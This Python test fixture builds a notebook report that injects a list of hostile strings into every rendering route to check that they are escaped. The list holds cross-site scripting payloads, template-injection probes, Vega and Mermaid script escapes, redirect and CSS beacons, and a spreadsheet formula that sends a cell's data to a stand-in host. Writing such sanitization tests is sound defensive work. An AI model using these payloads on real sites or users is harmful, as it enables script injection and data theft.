"""Texts that would do harm if a page believed them, and a report that shows one of them on every route into the page."""

from typing import Any

import nbformat

from prodops.stamps import Definition, Finding, QueryStamp, Takeaway, Tile
from tests.reports.example_report import chart, code, notebook, report, shown, stamped, text

RUN = "top.PWNED=(top.PWNED||[]),top.PWNED.push(1)"

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "image": f'<img src=x onerror="{RUN}">',
    "drawing": f'<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" /></svg>',
    "end of script": f"</script><script>{RUN}</script>",
    "end of everything": f'</title></style></textarea></noscript></template><img src=x onerror="{RUN}">',
    "out of the attribute": f'" autofocus onfocus="{RUN}" x="\' onmouseover=\'{RUN}',
    "Markdown link": f"[click](javascript:{RUN.replace('(', '%28').replace(')', '%29')})",
    "frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "open comment": f"<!--<script>{RUN}--!><script>{RUN}</script>",
    "mathematics": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={RUN}>">',
    "template": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    "Vega expression": f"datum.constructor.constructor('{RUN}')()",
    "Mermaid": f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]\n```',
    "style": '</style><style>body{display:none}</style><style>@import "https://beacon.invalid/s.css"</style>',
    "refresh": '<meta http-equiv=refresh content="0;url=https://beacon.invalid/"><base href="https://beacon.invalid/">',
    "beacon": '<img src="https://beacon.invalid/q.png"> <link rel=stylesheet href=//beacon.invalid/s.css> <video poster=//beacon.invalid/v.png></video>',
    "formula": '=HYPERLINK("https://beacon.invalid/?"&A1,"x")',
    "form": '<form action="https://beacon.invalid/"><button autofocus>Go</button></form>',
}


def hostile_report(payload: str) -> nbformat.NotebookNode:
    """A report that shows a payload as text in stamps, charts, tables and code, and as markup on each route that a cell has."""
    cells: list[Any] = [
        text("# Hostile"),
        *report().cells[1:4],
        code(f"comment = {payload!r}", shown(text_plain=payload), {"output_type": "stream", "name": "stdout", "text": payload}),
        code("bottom", stamped(Finding(name=payload, headline=payload, sentence=payload, value=1.0, before=2.0)), tags=("bottom-line",)),
        code("tiles", stamped(Tile(name=payload, title=payload, value=1.0, unit="count", period=payload, history=(1.0, 2.0)))),
        text("## Topic\n\n[a safe link](https://example.org/)"),
        code("finding", stamped(Finding(name=payload, headline=payload, sentence=payload))),
        code("chart", chart(payload, title=payload, alt=payload)),
        code("HTML(text)", shown(text_html=f"<p>{payload}</p>")),
        code("HTML(attribute)", shown(text_html=f'<p title="{payload}" class="{payload}">x</p>')),
        code(
            "frame.to_html(escape=False)",
            shown(text_html=f"<table><thead><tr><th>{payload}</th></tr></thead><tbody><tr><td>{payload}</td></tr></tbody></table>"),
        ),
        code(
            "frame.style",
            shown(text_html=f'<style type="text/css">#T {{ color: red }}</style><table id="T"><tr><td>{payload}</td></tr></table>'),
        ),
        code(
            "SVG(text)", shown(**{"image_svg+xml": f"<svg><text>{payload}</text><a href='javascript:{payload}'><text>x</text></a></svg>"})
        ),
        code("Markdown(text)", shown(text_markdown=f"{payload}\n\n> {payload}")),
        code("Javascript(text)", shown(**{"application/javascript": payload})),
        code(
            "widgets.HTML(text)",
            shown(**{"application/vnd.jupyter.widget-view+json": {"model_id": payload}, "text_plain": f"HTML(value={payload!r})"}),
        ),
        code("raise", {"output_type": "error", "ename": "ValueError", "evalue": payload, "traceback": [payload]}),
        code(
            "print(text)",
            stamped(
                Definition(name=payload, text=payload, version=payload),
                QueryStamp(name=payload, sql=payload, key="k", rows=1, sha256=payload),
            ),
        ),
        code("takeaways", stamped(Takeaway(claim=payload, decision=payload, owner=payload, changes_our_mind=payload)), tags=("takeaways",)),
        text(f"## {payload}\n\n{payload}\n\n- {payload}"),
    ]
    return notebook(*cells)
